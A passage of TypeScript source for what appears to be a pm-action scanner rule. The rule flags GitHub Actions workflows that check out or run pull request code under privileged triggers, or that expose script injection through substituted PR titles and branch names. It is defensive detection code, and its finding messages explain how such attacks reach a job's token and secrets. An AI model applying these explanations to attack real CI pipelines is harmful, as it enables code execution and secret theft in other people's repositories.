        'GitHub substitutes the text before the script is parsed, so whoever writes that value (a pull request title, a branch name, a comment) injects code that runs with the job\'s token and secrets. ' +
        fix,
      evidence
    });
  }
}

function checkoutFindings(
  wf: WorkflowFile,
  job: Job,
  privileged: string,
  mode: CheckoutMode,
  gatedByNeeds: string | undefined,
  forkGate: string | undefined,
  out: FindingDraft[]
): void {
  if (job.uses || job.steps.length === 0 || guarded(job.if?.value)) return;
  const isHead = (v: string): boolean => (mode.prHead && HEAD_REF.test(v)) || (mode.comment && commentPrRef(v));
  // Env entries that carry a PR-head ref (`PR_SHA: ${{ github.event.pull_request.head.sha }}`).
  const headEnvOf = (env: Record<string, { value: string }>, into: Set<string>): void => {
    for (const k of Object.keys(env)) if (isHead(env[k].value)) into.add(k.toLowerCase());
  };
  const jobHeadEnv = new Set<string>();
  headEnvOf(wf.env, jobHeadEnv);
  headEnvOf(job.env, jobHeadEnv);

  const resolvers = new Map<string, Step>();
  let permissionStep: Step | undefined;
  let checkout: ({ step: Step } & CheckoutHit) | undefined;
  let run: Execution | undefined;
  let unknown: Execution | undefined;
  for (const step of job.steps) {
    if (!checkout) {
      let headEnv: ReadonlySet<string> = jobHeadEnv;
      if (Object.keys(step.env).length > 0) {
        const s = new Set(jobHeadEnv);
        headEnvOf(step.env, s);
        headEnv = s;
      }
      const c = prHeadCheckout(step, headEnv, mode, resolvers, job.env);
      if (c && !guarded(step.if?.value)) {
        checkout = { step, ...c };
        if (c.runsHere) {
          run = { level: 'run', step, why: c.runsHere };
          break;
        }
      }
      else if (mode.comment) {
        if (step.id && resolvesPr(step)) resolvers.set(step.id, step);
        if (!permissionStep && isPermissionGate(step, stepCode(step))) permissionStep = step;
      }
      continue;
    }
    const e = execution(step);
    if (!e) continue;
    if (e.level === 'run') {
      run = e;
      break;
    }
    unknown ??= e;
  }
  if (!checkout) return;
  const evidence: Evidence[] = [{ path: wf.path, line: checkout.line }];
  let severity: Severity;
  let tail: string;
  if (run) {
    severity = 'critical';
    const at = run.step.run?.line ?? run.step.uses?.line ?? run.step.line;
    evidence.push({ path: wf.path, line: at });
    tail = `and then runs it in ${stepLabel(run.step)} (${run.why}).`;
  } else if (unknown) {
    severity = 'high';
    evidence.push({ path: wf.path, line: unknown.step.uses?.line ?? unknown.step.line });
    tail = `and then uses ${unknown.why}, which may execute files from the checked-out tree (install scripts, configuration, build files); pm-action cannot tell whether it does.`;
  } else {
    severity = 'medium';
    tail =
      'but no later step appears to run it. The checkout itself puts untrusted files (and, unless `persist-credentials: false`, the token) in the workspace, so any step added later runs the contributor\'s code with the base repository\'s privileges.';
  }
  let confidence: 'high' | 'medium' = severity === 'high' ? 'medium' : 'high';
  const title = severity === 'critical' ? 'Privileged workflow runs pull request code' : 'Privileged workflow checks out pull request code';
  let what = checkout.what;
  let extra = '';
  if (checkout.via) {
    confidence = 'medium';
    what += ` (resolved from the pull request by ${stepLabel(checkout.via)})`;
  }
  const guard = mode.comment ? commentGuardOf(job, checkout.step, permissionStep, gatedByNeeds) : undefined;
  const sameRepo = mode.comment && !guard ? forkGate : undefined;
  // Only a workflow on pull_request_target alone: with workflow_run or issue_comment too, the
  // label condition does not hold for those events' runs in the same way.
  const labelGate = mode.prTarget && !mode.comment && !privileged.includes('workflow_run') ? labelGuardOf(job, checkout.step) : undefined;
  if (run && !guard && !sameRepo && !labelGate) tail += " Anyone who opens a pull request runs code with this job's token and secrets.";
  if (labelGate) {
    extra =
      ` The checkout is gated on a label by ${labelGate}; only people with triage or write access can label a pull request, so a maintainer chose to run it, and the finding is ${severity === 'medium' ? 'medium' : `medium rather than ${severity}`}. ` +
      'What remains is a time-of-check/time-of-use gap: commits pushed after the review run too while the label stays, unless the workflow runs only on `types: [labeled]`, removes the label, and checks out the `head.sha` of that event.';
    severity = 'medium';
  }
  if (mode.comment) {
    if (sameRepo) {
      extra =
        ` The job runs only when \`${sameRepo}\`, the job it needs, reports that the pull request does not come from a fork (its \`if:\` is \`${job.if?.value.trim()}\`), so the code is from a branch of this repository, pushed by someone with write access, and the finding is ${severity === 'medium' ? 'medium' : `medium rather than ${severity}`}. ` +
        'pm-action cannot verify how that output is computed; anyone can still trigger the run with a comment, and the branch can change between the check and the checkout.';
      severity = 'medium';
    } else if (guard) {
      extra =
        ` The checkout is gated on ${guard}, so a maintainer chose to run this pull request and the finding is ${severity === 'medium' ? 'medium' : `medium rather than ${severity}`}. ` +
        'What remains is a time-of-check/time-of-use gap: the pull request\'s head can change between the maintainer\'s comment and the checkout, and the job runs whatever the head is when it starts. ' +
        (checkout.sha
          ? 'The checkout pins a commit SHA, but it is resolved when the workflow runs, after the comment, and pm-action cannot tell that it is the commit the maintainer reviewed, so the finding stays medium.'
          : 'Pin the checkout to the commit SHA the maintainer reviewed (for example one named in the comment, or check that the head commit is older than the comment).');
      severity = 'medium';
    } else {
      extra =
        ' An `issue_comment` workflow runs with the base repository\'s token and secrets for a comment from anyone; a condition on `github.event.issue.pull_request` or on the comment text only says which comment it was, not who wrote it.';
    }
  }
  out.push({
    subject: `${job.id}:pr-head-checkout`,
    path: wf.path,
    severity,
    confidence,
    title,
    message: `Job \`${job.id}\` of \`${wf.path}\` runs on ${privileged} and checks out the pull request's code with ${what} in ${stepLabel(checkout.step)} ${tail}${extra}`,
    evidence
  });
}

export function evaluate(snapshot: GovernanceSnapshot): FindingDraft[] {
  const out: FindingDraft[] = [];
  for (const wf of snapshot.workflows) {
    if (wf.parseError) continue;
    const wfEnv = envScope(new Map(), wf.env);
    const events = new Set(wf.triggers.map((t) => t.event));
    const label = (names: string[]): string => names.filter((e) => events.has(e)).map((e) => `\`${e}\``).join(' and ');
    const privileged = label(['pull_request_target', 'workflow_run', 'issue_comment']);
    const artifacts = label(['workflow_run', 'pull_request_target']);
    const mode: CheckoutMode = {
      prHead: events.has('pull_request_target') || events.has('workflow_run'),
      comment: events.has('issue_comment'),
      prTarget: events.has('pull_request_target')
    };
    // issue_comment: jobs whose `if:` or steps check the commenter gate the jobs that need them.
    const gates = new Set<string>();
    // issue_comment: jobs that ask whether the pull request comes from a fork (an `if:` on their output restricts dependants).
    const forkChecks = new Set<string>();
    if (mode.comment && wf.kind === 'workflow') {
      for (const job of wf.jobs) {
        if (commenterGuard(job.if?.value) || job.steps.some((s) => isPermissionGate(s, stepCode(s)))) gates.add(job.id);
        if (job.steps.some((s) => FORK_CHECK.test(stepCode(s)))) forkChecks.add(job.id);
      }
    }
    for (const job of wf.jobs) {
      injectionFindings(wf, job, wfEnv, out);
      if (wf.kind !== 'workflow') continue;
      if (privileged) {
        // A job that runs whatever its needs did (`always()`, `failure()`, `cancelled()`) is not gated by them.
        const overrides = /\b(?:always|failure|cancelled)\s*\(/i.test(job.if?.value ?? '');
        const gatedBy = gates.size > 0 && !overrides ? job.needs.find((n) => gates.has(n)) : undefined;
        checkoutFindings(wf, job, privileged, mode, gatedBy, mode.comment ? forkGateOf(job, forkChecks) : undefined, out);
      }
      if (artifacts) artifactFindings(wf, job, artifacts, out);
    }
  }
  return out;
}

export const rule: Rule = { meta, evaluate };
